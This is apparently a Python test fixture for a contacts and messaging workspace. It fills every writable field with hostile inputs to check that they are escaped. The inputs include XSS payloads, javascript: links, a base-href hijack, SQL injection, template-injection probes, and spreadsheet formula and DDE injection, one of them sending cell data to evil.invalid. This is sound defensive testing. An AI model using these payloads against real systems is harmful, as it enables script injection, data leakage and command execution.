"""Texts that mean harm wherever they are shown, and a workspace with them in every place that people can write to.

A text that is run sets `window.ran`, asks for a path that begins with `/ran`, or opens a dialog.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import contacts_nb as cn
from contacts_nb import F
from contacts_nb.workspace import Workspace

OWNER = "ana@acme.example"
NOON = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)

TEXTS = {
    "script": "<script>window.ran='script';alert(1)</script>",
    "image": "<img src=/ran/image onerror=\"window.ran='image'\">",
    "drawing": "<svg/onload=window.ran='drawing'>",
    "double quotes": "Ann\" autofocus onfocus=\"window.ran='focus'\" onmouseover=\"window.ran='over'\" x=\"",
    "single quotes": "Ann' autofocus onfocus='window.ran=1' onmouseover='window.ran=2' x='",
    "entities": "&lt;img src=/ran/entity onerror=window.ran=3&gt;&#x3c;b&#62; &amp;amp; &nbsp;&quot;",
    "frame": '<iframe src="/ran/frame" srcdoc="<script>parent.ran=4</script>"></iframe>',
    "closing": "</textarea></title></style></script></select><base href=//evil.invalid/>"
    "<style>*{display:none}</style>",
    "sheet": "<link rel=stylesheet href=/ran/sheet><meta http-equiv=refresh content=0;url=/ran/meta>",
    "address": "javascript:window.ran='address'",
    "link": "[Ann](javascript:window.ran=5) <a href=javascript:window.ran=6>Ann</a> ![](/ran/link)",
    "template": "{{7*7}} ${window.ran=7} {0} {name} {{name}} %s %(name)s %n <%= 7*7 %> #{7*7} $1 \\1 \\n",
    "query": "'; DROP TABLE contacts; -- \" OR 1=1 %_%_ \\",
    "formula": '=HYPERLINK("http://evil.invalid/"&A1,"Ann")',
    "plus": "+1+cmd|' /C calc'!A1",
    "at": "@SUM(1+1)",
    "minus": "-2+3",
    "turned": "Ann \u202egnp.eman\u202c \u2066\u200f\u200bBo\u200d\ufeff\u2069 \u061cעברית",
    "never ended": "\u202e\u2067\u202d Ann never ends",
    "marks": "Z" + "\u0335\u0321\u0344\u034e" * 30,
    "long word": "W" * 255,
    "wide": "👩🏽‍🚀" * 40,
    "lines": "first\nsecond\r\nthird\tfourth\u2028fifth\x0b\x1b[31mred\x07\x08",
    "no letters": "\u200b\u2060\u00ad",
}  # fmt: skip
"""By what they try; none is longer than a name may be."""

ADDRESS = "o'ann+{{7*7}}=%s&x/y#z|${1}@acme.example"
LINK = 'https://acme.example/?"onclick="window.ran=8"\'><img/src=/ran/url/onerror=window.ran=9>&amp;%s{{7*7}}'
PICTURE = 'https://evil.invalid/ran.png?"onerror="window.ran=10"\'><svg/onload=window.ran=11>'
LONG_WORD = "W" * 2_000
EMOJI = "👩🏽‍🚀" * 24_000
"""About a hundred thousand characters, which is as long as a message may be."""


def fill(path: Path) -> None:
    """Make a workspace at `path` that `OWNER` owns, with the texts in every place."""
    texts = list(TEXTS.values())
    with cn.create(path, name=TEXTS["image"], phone_region="GB", owner=OWNER):
        pass
    with cn.open(path, user=OWNER) as ws:
        ws.users.update(OWNER, name=TEXTS["script"])
        for number, text in enumerate(texts):
            ws.users.add(f"user{number}@acme.example", name=text)
            ws.teams.add(text, members=[OWNER])
            ws.channels.add(text, "telegram")
            ws.tags.add(text, description=text)
            ws.fields.add(text)
            ws.inboxes.save(text, F.first_name.contains(text) | F.tags.has_any(text), share=[text])
        ws.fields.add("Picked", "list", allowed=texts)
        ws.fields.add("Link", "url")
        ws.fields.add("Long")
        _add_contacts(ws, texts)
        _merge(ws, texts)


def _add_contacts(ws: Workspace, texts: list[str]) -> None:
    own = [field.slug for field in ws.fields if field.name in texts]
    for number, text in enumerate(texts):
        contact = ws.add_contact(
            first_name=text,
            last_name=text,
            phone=f"020 7946 0{number:03}",
            email=ADDRESS,
            picture=PICTURE,
            tags=[text, texts[number - 1]],
            fields=dict.fromkeys(own, text) | {"picked": text, "link": LINK, "long": LONG_WORD},
            assignee=f"user{number}@acme.example",
            team=text,
        )
        contact.comment(text)
        contact.comment(EMOJI[:10_000])
        contact.open_conversation()
        contact.close_conversation(category=text, summary=text)
    ws.record_messages(messages(texts))


def messages(texts: Iterable[str]) -> list[dict[str, Any]]:
    """For each of `texts` somebody on its channel who is called, known and says so, and is answered."""
    found: list[dict[str, Any]] = []
    for number, text in enumerate(texts):
        said = {"channel": text, "identifier": text, "profile_name": text, "picture": PICTURE}
        at = NOON + timedelta(minutes=number)
        for more, one in enumerate((text, EMOJI[:100_000], LONG_WORD)):
            found.append(said | {"direction": "incoming", "text": one, "sent_at": at + timedelta(seconds=more)})
        answer = {"direction": "outgoing", "text": text, "sender": "user1@acme.example", "status": "failed"}
        found.append(said | answer | {"sent_at": at + timedelta(seconds=9)})
    return found


def _merge(ws: Workspace, texts: list[str]) -> None:
    """Who is known by a name takes in who has written under the same one."""
    for number, _ in enumerate(texts, 1):
        ws.plan_merge(number, number + len(texts)).apply()
